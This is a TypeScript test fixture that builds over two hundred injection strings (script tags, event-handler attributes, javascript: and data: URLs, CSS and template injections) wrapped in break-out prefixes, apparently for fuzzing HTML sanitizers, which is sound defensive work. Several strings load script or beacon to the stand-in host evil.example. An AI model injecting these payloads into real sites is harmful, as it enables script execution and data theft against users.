import { HOSTILE_TEXTS } from "./hostile-texts.ts";

// What runs in some place of a page, when that place takes texts for more than texts.
const RUNNING = [
  "<script>window.hostile=1</script>",
  "<ScRiPt src=//evil.example/x.js></sCrIpT>",
  "<img src=x onerror=window.hostile=1>",
  "<img src=https://evil.example/pixel.gif>",
  "<svg/onload=window.hostile=1>",
  "<svg><animate onbegin=window.hostile=1 attributeName=x dur=1s>",
  "<math><mi xlink:href=javascript:window.hostile=1>x</mi></math>",
  "<iframe srcdoc='<script>parent.hostile=1</script>'></iframe>",
  "<details open ontoggle=window.hostile=1>",
  "<video><source onerror=window.hostile=1></video>",
  "<body onload=window.hostile=1>",
  "<base href=https://evil.example/>",
  "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
  "<link rel=stylesheet href=https://evil.example/x.css>",
  "<style>@import 'https://evil.example/x.css';</style>",
  "<form action=https://evil.example/><button autofocus onfocus=window.hostile=1>",
  "<noscript><p title='</noscript><img src=x onerror=window.hostile=1>'>",
  "<a href=javascript:window.hostile=1>click</a>",
  "javascript:window.hostile=1",
  " \u0001javascript:window.hostile=1",
  "java\nscript:window.hostile=1",
  "javascript&colon;window.hostile=1",
  "&#106;avascript:window.hostile=1",
  "javascript://example.com/%0Awindow.hostile=1",
  "vbscript:msgbox(1)",
  "data:text/html;base64,PHNjcmlwdD53aW5kb3cuaG9zdGlsZT0xPC9zY3JpcHQ+",
  "data:image/svg+xml,<svg onload=window.hostile=1>",
  "blob:https://evil.example/1",
  "file:///etc/passwd",
  "//evil.example/x",
  "https://user:pass@evil.example:99999/",
  "color:red;background:url(https://evil.example/x.png)",
  "}body{display:none}*{background:url(https://evil.example/y.png)}",
  "${alert(window.hostile=1)} `${window.hostile=1}`",
  "{{7*7}} {% raw %} <%= 7*7 %> #{7*7} *{7*7}",
  "{{#with constructor}}{{/with}}",
  "[x](data:text/html,<script>window.hostile=1</script>)",
  "![x](https://evil.example/pixel.png)",
  "<https://evil.example> [a]: javascript:window.hostile=1",
  "```html\n<script>window.hostile=1</script>\n```",
] as const;

// Where such a text breaks out of what surrounds it.
const WRAPPERS: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => `"'>${text}`,
  (text) => `--></title></textarea></style></script>${text}`,
  (text) => `\u202E\u200B${text}\u2066`,
  (text) => `**${text}** [${text}](${text})`,
];

/** More than two hundred such texts: each that runs somewhere, in everything that it may break out of. */
export const MANY_HOSTILE_TEXTS: readonly string[] = [
  ...new Set([...HOSTILE_TEXTS, ...RUNNING.flatMap((text) => WRAPPERS.map((wrap) => wrap(text)))]),
  `<b>${"long ".repeat(20_000)}`,
];
